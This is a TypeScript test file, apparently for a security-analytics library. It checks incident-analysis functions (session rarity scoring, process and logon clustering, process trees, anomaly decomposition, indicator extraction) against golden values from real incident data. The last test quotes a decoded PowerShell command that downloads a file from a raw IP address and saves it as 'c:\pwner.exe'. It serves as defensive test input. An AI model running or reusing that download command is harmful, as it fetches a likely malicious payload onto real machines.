import {
  buildProcessTree,
  clusterEvents,
  decomposeSeries,
  extractIocs,
  processFeatures,
  scoreSessions,
} from '@casebook/analysis';
import { DateTime, desc, Frame, type Cell } from '@casebook/core';
import { REAL_DATA, realCsv, realObjects } from '../src/real-data';

if (!REAL_DATA) process.stdout.write('skipped: golden values of real data, for ../shared is not there\n');

const inRealData = REAL_DATA ? describe : describe.skip;
const numbers = (frame: Frame, column: string): readonly number[] => [...frame.numbers(column)];

const processes = (): Frame =>
  realCsv('incident/processes_on_host.csv', {
    EventID: 'int',
    TimeCreatedUtc: 'datetime',
    TimeGenerated: 'datetime',
  });

inRealData('sessions of Exchange administrators', () => {
  type Parameter = { readonly Name: string; readonly Value: string };
  type Form = (name: string, given: readonly Parameter[]) => unknown;
  const values: Form = (name, given) => ({
    name,
    params: Object.fromEntries(given.map(({ Name, Value }) => [Name, Value])),
  });
  const parameters: Form = (name, given) => ({ name, params: given.map(({ Name }) => Name) });
  const sessions = (form: Form): Frame => {
    const session = (params: unknown): readonly unknown[] =>
      (params as readonly Readonly<Record<string, readonly Parameter[]>>[]).flatMap((command) =>
        Object.entries(command).map(([name, given]) => form(name, given)),
      );
    return Frame.fromColumns([{ name: 'session', type: 'dynamic' }], {
      session: realObjects('exchange_admin_sessions.ndjson').map(({ params }) => session(params)),
    });
  };

  test('are as rare as the original says', () => {
    const likelihoods = numbers(
      scoreSessions(sessions(values), { column: 'session' }),
      'rarest_window3_likelihood',
    );
    expect(likelihoods).toHaveLength(146);
    expectNear(Math.min(...likelihoods), 2.5413764681869644e-6);
    expectNear(-Math.log(Math.min(...likelihoods)), 12.882804707108567);
    expectNear(-Math.log(Math.max(...likelihoods)), 4.727993344890641);
  });

  const inner = { startEndTokens: false, geometricMean: true };
  test.each([
    ['names', (name: string) => name, 1, {}, 146, 0.003963759909399773, 6.161947904869768],
    ['names', (name: string) => name, 4, inner, 130, 0.1710567722955247, 121.73821563966607],
    ['parameters', parameters, 3, {}, 146, 0.0001796630647272863, 5.747156637246943],
    ['parameters', parameters, 5, {}, 130, 2.443045307864446e-5, 4.605490006365014],
    ['values', values, 1, {}, 146, 0.0004804634937765526, 6.158464608454144],
    ['values', values, 4, inner, 130, 0.02073448854870057, 22.74950581757046],
    ['values', values, 5, {}, 130, 1.34424247350999e-8, 0.009737635314343573],
  ] as const)('are as the original says, by %s', (_, form, windowLength, options, count, least, sum) => {
    const scored = scoreSessions(sessions(form), { column: 'session', windowLength, ...options });
    const all = numbers(scored, `rarest_window${windowLength}_likelihood`);
    const likelihoods = all.filter((one) => !Number.isNaN(one));
    expect(likelihoods).toHaveLength(count);
    expectNear(Math.min(...likelihoods), least);
    expectNear(
      likelihoods.reduce((total, one) => total + one, 0),
      sum,
    );
  });
});

const expectNear = (value: number, golden: number): void =>
  expect(Math.abs(value / golden - 1)).toBeLessThan(1e-9);

inRealData('an incident of January 2019', () => {
  const clustered = (columns: readonly string[], eps: number): Frame =>
    clusterEvents(processFeatures(processes()), { columns, eps, timeColumn: 'TimeCreatedUtc' });
  const sizes = (frame: Frame): readonly number[] =>
    numbers(frame.where({ Clustered: true }).sort(desc('ClusterSize')), 'ClusterSize');

  test('its processes fall into the patterns of the original', () => {
    const patterns = clustered(['commandlineTokensFull', 'pathScore', 'isSystemSession'], 0.0001);
    expect(patterns.rowCount).toBe(62);
    expect(patterns.where({ Clustered: false }).rowCount).toBe(33);
    expect(sizes(patterns).slice(0, 8)).toEqual([71, 39, 38, 35, 28, 23, 15, 9]);
    const names = patterns.sort(desc('ClusterSize')).values('processName');
    expect(names.slice(0, 6)).toEqual([
      'cscript.exe',
      'conhost.exe',
      'WmiPrvSE.exe',
      'ASMHost.exe',
      'win32calc.exe',
      'cmd.exe',
    ]);
  });

  test('so do they by fewer columns', () => {
    const patterns = clustered(['pathScore', 'commandlineTokensFull'], 0.001);
    expect(patterns.rowCount).toBe(5);
    expect(sizes(patterns)).toEqual([350, 7, 3, 2]);
    expect(sizes(clustered(['commandlineTokensFull', 'pathScore', 'isSystemSession'], 0.01))).toEqual([363]);
  });

  test('its logons fall into three patterns', () => {
    const logons = realCsv('incident/host_logons.csv', { LogonType: 'int', TimeGenerated: 'datetime' });
    const scored = logons.extend({
      AccountNum: ({ Account }) => [...String(Account)].reduce((sum, one) => sum + one.charCodeAt(0), 0),
    });
    const patterns = clusterEvents(scored, { columns: ['AccountNum', 'LogonType'], eps: 0.0001 });
    const told = patterns
      .rows()
      .map(
        ({ Account, LogonType, ClusterSize }): readonly Cell[] => [Account, LogonType, ClusterSize] as Cell[],
      );
    expect(told).toEqual([
      ['MSTICAlertsWin1\\adm1nistrator', 3, 1],
      ['MSTICAlertsWin1\\MSTICAdmin', 4, 2],
      ['NT AUTHORITY\\SYSTEM', 5, 11],
    ]);
  });

  test('its processes make the trees of the original', () => {
    const tree = buildProcessTree(processes());
    expect(tree.summary()).toEqual({
      Processes: 369,
      RootProcesses: 6,
      LeafProcesses: 279,
      BranchProcesses: 84,
      IsolatedProcesses: 0,
      InferredProcesses: 6,
      LargestTreeDepth: 5,
    });
    const rows = tree.toFrame().rows();
    const recorded = new Set(rows.flatMap(({ Inferred, proc_key }) => (Inferred ? [] : [proc_key])));
    expect(rows.filter(({ parent_key }) => recorded.has(parent_key ?? null))).toHaveLength(202);
  });
});

inRealData('bytes by the hour of July 2020', () => {
  const series = (): Frame => {
    const rows = realObjects('network_bytes_hourly.ndjson');
    const cells = (name: string): readonly unknown[] => rows.map((row) => row[name]);
    return Frame.fromColumns(
      [
        { name: 'TimeGenerated', type: 'datetime' },
        { name: 'TotalBytesSent', type: 'long' },
      ],
      { TimeGenerated: cells('TimeGenerated'), TotalBytesSent: cells('TotalBytesSent') },
    );
  };
  const OPTIONS = { timeColumn: 'TimeGenerated', valueColumn: 'TotalBytesSent' };

  test('the two anomalies have the scores of the original', () => {
    const found = decomposeSeries(series(), { ...OPTIONS, compatibility: 'msticpy' });
    const anomalies = found.where('anomalies', '==', 1);
    expect(anomalies.values('TimeGenerated')).toEqual([
      DateTime.parse('2020-07-10T18:00:00Z'),
      DateTime.parse('2020-07-10T19:00:00Z'),
    ]);
    expect(numbers(anomalies, 'score').map((score) => score.toFixed(6))).toEqual(['6.220873', '6.055974']);
  });

  test.each([
    [
      {},
      [22208.163103773448, -8418.470834479212, 1],
      [3408920.6968186414, 1155681.157653517, 290680.27452082664],
    ],
    [
      { robust: true },
      [20349.669379877334, -7027.8690001010855, 0.8742671344609267],
      [3304834.975097586, 1060445.6477081648, 301357.93728730676],
    ],
    [
      { period: 12, seasonal: 13 },
      [15432.380389058844, -1189.8981852927063, 1],
      [3392235.6654985, 266631.47235324554, 601503.3572581059],
    ],
    [
      { trend: 73 },
      [22222.523528849186, -8473.0977839371, 1],
      [3399544.905026339, 1155640.4107509605, 309272.1754136408],
    ],
  ])('the parts are those of statsmodels: %j', (options, atHour97, sums) => {
    const parts = decomposeSeries(series(), { ...OPTIONS, ...options });
    ['trend', 'seasonal', 'weights'].forEach((name, at) =>
      expectNear(numbers(parts, name)[97] as number, atHour97[at] as number),
    );
    ['trend', 'seasonal', 'residual'].forEach((name, at) =>
      expectNear(
        numbers(parts, name).reduce((sum, value) => sum + Math.abs(value), 0),
        sums[at] as number,
      ),
    );
  });
});

test('the command of mission document 004, decoded, gives its indicators', () => {
  const decoded =
    'Invoke-WebRequest -Uri "http://38.75.137.9:9088/static/encrypt.min.js" -OutFile "c:\\pwner.exe"';
  const found = extractIocs(Frame.fromObjects([{ decoded }]), { columns: ['decoded'], includePaths: true });
  expect(found.rows().map(({ IoCType, Observable }) => [IoCType, Observable])).toEqual([
    ['url', 'http://38.75.137.9:9088/static/encrypt.min.js'],
    ['ipv4', '38.75.137.9'],
    ['windows_path', 'c:\\pwner.exe'],
  ]);
});
